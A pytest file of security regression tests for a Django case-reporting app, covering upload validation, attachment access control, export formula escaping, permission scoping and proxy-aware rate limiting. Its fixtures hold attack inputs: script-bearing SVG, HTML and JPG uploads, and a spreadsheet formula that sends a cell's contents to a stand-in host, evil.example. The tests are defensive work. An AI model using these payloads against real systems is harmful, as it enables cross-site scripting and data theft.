"""Security regressions of the cases app (issue 11). Each test failed before its fix."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from gridgov.cases.models import Case, CaseAttachment
from gridgov.core.testing import image_upload

from .conftest import POINT

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/me/")</script></svg>'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _report(client, **extra):
    data = {"category": extra.pop("category"), "title": "路面塌陷", "lng": POINT[0], "lat": POINT[1],
            "attr_depth": "deep"}
    data.update(extra)
    return client.post(reverse("cases:public_report"), data)


@pytest.mark.parametrize("name,body", [("x.svg", SVG), ("x.html", b"<script>alert(1)</script>"),
                                       ("x.jpg", b"\xff\xd8\xff\xe0<script>alert(1)</script>")])
def test_anonymous_report_refuses_a_script_as_photo(client, category, tree, name, body):
    # when an anonymous resident attaches a script as the photo
    r = _report(client, category=category.pk, photos=[SimpleUploadedFile(name, body, content_type="image/svg+xml")])
    # then the report is refused with a Chinese message and nothing is stored
    assert r.status_code == 200
    assert "不是有效的图片" in r.content.decode()
    assert not CaseAttachment.objects.exists() and not Case.objects.exists()


def test_anonymous_report_stores_a_reencoded_photo_under_a_random_name(client, category, tree):
    r = _report(client, category=category.pk, photos=[image_upload("家门口.png", "PNG")])
    assert r.status_code == 302
    a = CaseAttachment.objects.get()
    assert a.file.name.startswith("cases/") and a.file.name.endswith(".png") and "家门口" not in a.file.name


def test_attachment_is_served_only_to_who_sees_the_case(client, new_case, photo, make_user, dispatcher, tree):
    from gridgov.accounts.choices import RoleCode

    case = new_case(photos=[photo()])
    url = case.attachments.get().file.url
    client.force_login(dispatcher)
    assert client.get(url).status_code == 200
    client.force_login(make_user(RoleCode.STREET_STAFF, tree["430702005000"]))  # the other street
    assert client.get(url).status_code == 404
    client.logout()
    assert client.get(url).status_code == 404  # not published: no public access


def test_evaluation_export_writes_no_live_formula(client, admin_user, new_case, walk, grid_worker):
    # given a grid worker whose full name is a formula
    from openpyxl import load_workbook

    grid_worker.full_name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    grid_worker.save()
    walk(new_case(), "closed")
    client.force_login(admin_user)
    # when the evaluation by grid worker is exported
    r = client.get(reverse("cases:evaluation"), {"by": "worker", "format": "xlsx"})
    # then no cell is a formula
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)


def test_staff_report_form_channel_comes_from_the_view(client, grid_worker, category, tree):
    # a grid worker posts channel=web: the case would pass as a resident's (public feed, no
    # staff scope rules); the channel is the view's, whatever the form says
    client.force_login(grid_worker)
    for title, where in (("本网格", {"lng": POINT[0], "lat": POINT[1]}), ("邻街", {"grid": "430702005001001"})):
        client.post(reverse("cases:report"), {"category": category.pk, "title": title, "attr_depth": "deep",
                                              "channel": "web", **where})
        assert Case.objects.get(title=title).channel == "grid"
    client.post(reverse("cases:report") + "?channel=counter", {"category": category.pk, "title": "代登记",
                                                               "attr_depth": "deep", "grid": "430702004001001"})
    assert Case.objects.get(title="代登记").channel == "counter"


def test_street_staff_may_not_change_district_configuration(client, dispatcher, category, department):
    # 丹阳街道's staff hold cases.change_category for the street only
    from django.core.exceptions import PermissionDenied

    from gridgov.cases import actions
    from gridgov.cases.models import RoutingRule

    with pytest.raises(PermissionDenied):
        actions.save_routing_rule(actor=dispatcher, rule=RoutingRule(), data={
            "category": category, "division_prefix": "430702005", "department": department, "order": 1})
    with pytest.raises(PermissionDenied):
        actions.save_category(actor=dispatcher, category=category, data={"name": "改名"})
    client.force_login(dispatcher)
    assert client.post(reverse("cases:rule_new"), {"order": 1, "division_prefix": "430702005",
                                                   "department": department.pk}).status_code == 404
    assert client.get(reverse("cases:category_edit", args=[category.pk])).status_code == 404
    assert not RoutingRule.objects.exists()


def test_district_admin_still_configures(admin_user, category):
    from gridgov.cases import actions

    actions.save_category(actor=admin_user, category=category, data={"name": "路面塌陷（改）"})
    category.refresh_from_db()
    assert category.name == "路面塌陷（改）"


def test_public_rate_limit_keys_on_the_real_client_behind_the_proxy(client, category, tree, settings):
    from gridgov.cases import conf

    settings.TRUSTED_PROXIES = ["127.0.0.1"]
    limit = conf.public_rate_limit()[0]
    data = {"category": category.pk, "title": "路面塌陷", "lng": POINT[0], "lat": POINT[1], "attr_depth": "deep"}
    before = Case.objects.count()
    for i in range(limit + 2):  # many visitors through one proxy: each its own bucket
        client.post(reverse("cases:public_report"), data, REMOTE_ADDR="127.0.0.1",
                    HTTP_X_FORWARDED_FOR=f"203.0.113.{i}")
    assert Case.objects.count() == before + limit + 2
    for _ in range(limit):  # one visitor still meets the limit
        client.post(reverse("cases:public_report"), data, REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.9")
    r = client.post(reverse("cases:public_report"), data, REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.9")
    assert "提交过于频繁" in r.content.decode()


def test_duplicate_suggestions_are_scoped(client, new_case, category, make_user, tree):
    case = new_case(title="丹阳街道的事件")  # in 430702004001001
    params = {"category": category.pk, "lng": POINT[0], "lat": POINT[1]}
    other_street = make_user("grid_worker", tree["430702005001001"], username="gw-furong")
    client.force_login(other_street)
    body = client.get(reverse("cases:duplicates"), params).content.decode()
    assert "附近已有 1 件" in body and case.title not in body and case.number not in body
    client.logout()
    body = client.get(reverse("cases:duplicates"), params).content.decode()
    assert case.title not in body and case.number not in body
